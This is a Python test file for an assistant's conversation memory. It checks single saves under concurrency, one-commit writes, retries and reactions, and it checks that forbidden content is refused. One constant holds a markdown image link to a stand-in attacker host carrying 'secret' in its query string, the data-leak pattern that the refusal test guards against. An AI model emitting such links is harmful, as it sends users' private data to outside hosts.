"""Saving in a conversation: once, in one commit, counted, and without forbidden content.

`tests/integration/characters` records everything else about conversations.
"""

import threading
from collections.abc import Generator
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from pathlib import Path
from typing import cast

import pytest
from sqlalchemy.event import listen

from assistant.errors import InputError, NotFound, NotKept
from assistant.events import Event, Saved
from assistant.types import Action, Reaction, Turn
from memory_store.store import Store
from tests.support.memory.loop import CERTAIN, ME, RIGHT, WRONG, Loop, last, read_active
from tests.support.memory.services import memory_of, services_on
from tests.support.memory.store import ANN, save_the_same, small_store
from tests.support.servers.processes import FORKED

PROCESSES = 8
DRAFTS = 12
PRESSES = 4
QUICK = "what is akin to quick ?"
PICTURE = "I meant this one: ![it](https://attacker.test/p.png?q=secret)"


def react(loop: Loop, turn: Turn, reaction: Reaction, entry_id: str = "") -> Turn:
    return last(loop.assistant.react(turn.id, reaction, ME, entry_id))


@pytest.mark.promise("saved-once")
def test_same_drafts_of_many_processes_are_saved_once(tmp_path: Path) -> None:
    ready = FORKED.Barrier(PROCESSES)
    processes = [FORKED.Process(target=save_the_same, args=(tmp_path, DRAFTS, ready)) for _ in range(PROCESSES)]
    for process in processes:
        process.start()
    for process in processes:
        process.join()
        assert process.exitcode == 0
    store = small_store(tmp_path)
    assert {entry.question for entry in store.memory.entries(ANN)} == {f"question {number}" for number in range(DRAFTS)}
    assert [change.sequence for change in store.ledger.changes(after=0, limit=99)] == list(range(1, DRAFTS + 1))


@pytest.mark.promise("saved-once")
def test_pressing_save_at_once_saves_once(store: Store) -> None:
    loop = Loop(store, WRONG, *[RIGHT] * PRESSES)
    turn = loop.ask(QUICK)
    together = threading.Barrier(PRESSES)

    def press(_: int) -> str:
        together.wait()
        return loop.clarify(turn, "I meant a synonym").reply.answer

    with ThreadPoolExecutor(PRESSES) as people:
        assert set(people.map(press, range(PRESSES))) == {"fast"}
    assert read_active(store) == ["I meant a synonym"]


@pytest.mark.promise("saved-once")
def test_retry_after_a_lost_response_saves_once(store: Store) -> None:
    loop = Loop(store, WRONG, RIGHT)
    turn = loop.ask(QUICK)
    with closing(cast("Generator[Event]", loop.assistant.clarify(turn.id, "I meant a synonym", ME))) as events:
        assert isinstance(next(events), Saved)
    assert loop.clarify(turn, "  I meant a   SYNONYM ").reply.answer == "fast"
    assert read_active(store) == ["I meant a synonym"]


def test_saved_waits_for_one_commit(store: Store) -> None:
    loop = Loop(store, WRONG, RIGHT)
    turn = loop.ask(QUICK)
    written = store.ledger.last_change()
    commits: list[object] = []
    listen(store.ledger._engine, "commit", commits.append)
    events = loop.assistant.clarify(turn.id, "I want a word with the same meaning", ME)
    noted = next(event for event in events if isinstance(event, Saved))
    assert len(commits) == 1
    assert store.ledger.last_change() != written
    assert loop.assistant.turn(turn.id, ME).corrected_by == noted.entry.id


def test_chosen_note_counts_once_until_taken_back(store: Store) -> None:
    loop = Loop(store, WRONG, WRONG, RIGHT, WRONG, RIGHT, RIGHT, gate=CERTAIN)
    without = loop.ask("asked before there was any note", "e")
    loop.clarify(loop.ask(QUICK), "a synonym")
    turn = loop.ask("words akin to brave", "d")
    (decision,) = turn.decisions
    assert (turn.used, decision.action) == ((), Action.SKIP)
    with pytest.raises(NotFound):
        react(loop, without, Reaction.USE, decision.entry.id)
    again = react(loop, turn, Reaction.USE, decision.entry.id)
    entry = store.memory.entry(decision.entry.id, ME)
    assert entry.helped == 1
    with pytest.raises(NotFound):
        react(loop, again, Reaction.USE, entry.id)
    store.memory.retract(entry.id, ME)
    assert react(loop, turn, Reaction.USE, entry.id).used == ()


@pytest.mark.parametrize("cut", ["<understanding>a synonym</understanding>\n<answer>fas", "just words"])
def test_cut_reply_is_no_example(store: Store, cut: str) -> None:
    loop = Loop(store, cut, "")
    react(loop, loop.ask(QUICK), Reaction.CONFIRM)
    assert store.memory.entries(ME) == []


@pytest.mark.promise("content-rules")
def test_refused_text_is_stored_nowhere(store: Store) -> None:
    loop = Loop(store, WRONG, RIGHT)
    turn = loop.ask(QUICK)
    with pytest.raises(NotKept, match="Remove it and save again"):
        list(loop.assistant.clarify(turn.id, PICTURE, ME))
    assert (read_active(store), loop.assistant.turn(turn.id, ME).corrected_by) == ([], None)
    loop.clarify(turn, "a synonym")
    (entry,) = store.memory.entries(ME)
    page, refused = memory_of(services_on(store, loop.assistant)), NotKept("holds.picture").sentence
    assert page.edit({"entry": entry.id, "text": PICTURE}, ME) == {"refused": refused}
    assert page.change_key({"entry": entry.id, "old": "", "new": PICTURE}, ME) == {"refused": refused}
    with pytest.raises(InputError, match="2,001 characters long"):
        store.memory.edit(entry.id, "x" * 2001, ME)
    assert store.memory.entry(entry.id, ME) == entry
